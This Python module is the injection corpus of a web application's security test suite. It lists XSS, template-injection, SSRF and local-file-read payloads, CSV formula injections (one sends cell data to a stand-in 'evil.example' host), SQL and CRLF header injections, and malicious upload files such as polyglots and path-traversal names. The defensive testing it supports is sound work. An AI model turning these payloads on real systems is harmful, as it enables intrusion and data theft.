"""The injection corpus of the security suite (QUALITY.md, "Injection" and "Files").

- `PAYLOADS`: what a hostile user types into a text field: markup that would run in a page
  (script tags, event handlers, attribute and ``</textarea>`` break-outs, ``javascript:`` and
  ``data:`` URLs), template syntax, Markdown with raw HTML and hostile links, references the PDF
  renderer must never fetch (``file:///etc/passwd``, a listener on 127.0.0.1, the cloud metadata
  address), spreadsheet formulas, SQL-ish quotes, direction-changing and invisible characters.
  ``{port}`` is replaced by the port of the test's local listener (`corpus`).
- `FORMULAS`: values that a spreadsheet would run if a cell started with them.
- `CRLF`, `NUL`, `long_text`: the payloads that test a field's limits rather than its escaping.
- `BAD_FILES`: what a hostile user uploads where a PDF is expected.

Every text field gets `packed` values: a short tag naming the field (so a test can tell which
field it sees in a page) then as many payloads as the field's maximum length allows.
"""

from __future__ import annotations

import functools
import io
from dataclasses import dataclass

PAYLOADS: dict[str, str] = {
    "script_tag": '<script>alert("xss")</script>',
    "img_onerror": '"><img src=x onerror=alert(1)>',
    "svg_onload": "<svg/onload=alert(2)>",
    "single_quote_breakout": "' onmouseover='alert(3)' x='",
    "double_quote_breakout": '" autofocus onfocus="alert(4)" x="',
    "javascript_url": "javascript:alert(5)",
    "textarea_breakout": "</textarea><script>alert(6)</script>",
    "title_breakout": "</title><script>alert(7)</script>",
    "iframe": "<iframe src=javascript:alert(8)></iframe>",
    "template_expression": "{{7*7}}",
    "template_config": "{{ config.SECRET_KEY }}",
    "template_statement": "{% for i in range(3) %}loop{% endfor %}",
    "template_mro": "{{ ''.__class__.__mro__ }}",
    "markdown_raw_link": '<a href="javascript:alert(9)">raw-link</a>',
    "markdown_js_link": "[js-link](javascript:alert(10))",
    "markdown_data_link": "[data-link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=)",
    "markdown_file_image": "![passwd](file:///etc/passwd)",
    "file_image": '<img src="file:///etc/passwd">',
    "file_attachment": '<link rel="attachment" href="file:///etc/passwd">',
    "internal_stylesheet": '<link rel="stylesheet" href="http://127.0.0.1:{port}/sheet.css">',
    "internal_css_url": '<p style="background:url(http://127.0.0.1:{port}/bg.png)">bg</p>',
    "internal_import": "<style>@import url(http://127.0.0.1:{port}/import.css);</style>",
    "markdown_internal_image": "![internal](http://127.0.0.1:{port}/md.png)",
    "metadata_image": '<img src="http://169.254.169.254/latest/meta-data/">',
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql_quotes": "'; DROP TABLE proposal; -- \" OR '1'='1",
    "rtl_override": "report\u202efdp.exe",
    "invisible": "zero\u200bwidth\ufeffbom",
}

#: Values a spreadsheet would take for a formula: each must come out of an export as text.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: A header injection attempt: in a subject it would add a Bcc header.
CRLF = "Injected\r\nBcc: victim@example.org\r\nX-Injected: yes"
#: PostgreSQL text columns cannot hold NUL: a form must refuse it or remove it.
NUL = "nul\x00byte"

#: The first line of /etc/passwd on every Linux: its presence in a PDF means a local file was read.
PASSWD_LINE = "root:x:0:0"
#: The literal text that every page or PDF showing a packed value must show, escaped but whole.
LITERAL_PROBE = PAYLOADS["script_tag"]


def corpus(port: int) -> dict[str, str]:
    """The payloads with ``{port}`` filled in."""
    return {name: text.replace("{port}", str(port)) for name, text in PAYLOADS.items()}


def tag_for(index: int) -> str:
    """A short, unique, inert marker naming one field (``ZQ007Q``)."""
    return f"ZQ{index:03d}Q"


def packed(tag: str, max_length: int | None, port: int, *, multiline: bool = False) -> str:
    """``tag``, the script-tag probe, then as many other payloads as ``max_length`` allows."""
    sep = "\n\n" if multiline else " "
    limit = max_length if max_length and max_length > 0 else 10_000
    value = tag
    payloads = corpus(port)
    first = [LITERAL_PROBE] if len(tag) + len(sep) + len(LITERAL_PROBE) <= limit else []
    rest = sorted((p for p in payloads.values() if p != LITERAL_PROBE), key=len)
    # Fields too short for the whole corpus each start at another payload, so that between
    # them the short fields still receive every payload that fits them.
    turn = int("".join(c for c in tag if c.isdigit()) or 0) % len(rest)
    for payload in first + rest[turn:] + rest[:turn]:
        if len(value) + len(sep) + len(payload) <= limit:
            value += sep + payload
    return value


def long_text(length: int) -> str:
    """A very long word, for the layout of pages and the length checks of forms."""
    return "W" * length


# --- bad files --------------------------------------------------------------------------------


def _pdf(pages: int = 1, *, encrypt: bool = False, title: str = "") -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if title:
        writer.add_metadata({"/Title": title})
    if encrypt:
        writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@functools.lru_cache(maxsize=8)
def valid_pdf(title: str = "") -> bytes:
    return _pdf(title=title)


@dataclass(frozen=True)
class BadFile:
    """An upload that is not the PDF it claims to be. ``accept_ok``: a PDF a parser reads, whose
    danger lies in how it is served (``Content-Disposition: attachment`` and ``nosniff``)."""

    name: str
    filename: str
    make: object  # () -> bytes
    accept_ok: bool = False

    def data(self) -> bytes:
        return self.make()


HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"

BAD_FILES: tuple[BadFile, ...] = (
    BadFile("empty", "empty.pdf", lambda: b""),
    BadFile("html_named_pdf", "letter.pdf", lambda: HTML_PAGE),
    BadFile(
        "svg_named_pdf", "scan.pdf", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    ),
    BadFile("windows_executable", "scan.pdf", lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200),
    BadFile("elf_executable", "scan.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
    BadFile("zip_named_pdf", "scan.pdf", lambda: b"PK\x03\x04" + b"\x00" * 200),
    BadFile("html_then_pdf", "scan.pdf", lambda: HTML_PAGE + valid_pdf()),
    BadFile("pdf_header_only", "scan.pdf", lambda: b"%PDF-1.7\n this is no PDF at all"),
    BadFile("truncated_pdf", "scan.pdf", lambda: valid_pdf()[:120]),
    BadFile("encrypted_pdf", "scan.pdf", lambda: _pdf(encrypt=True)),
    BadFile("polyglot_pdf_html", "scan.pdf", lambda: valid_pdf() + HTML_PAGE, accept_ok=True),
    BadFile("traversal_name", "../../../../tmp/x.pdf", valid_pdf, accept_ok=True),
    BadFile("rtl_name", "scan\u202efdp.exe", valid_pdf, accept_ok=True),
    BadFile("markup_name", '<script>alert(1)</script>".pdf', valid_pdf, accept_ok=True),
)
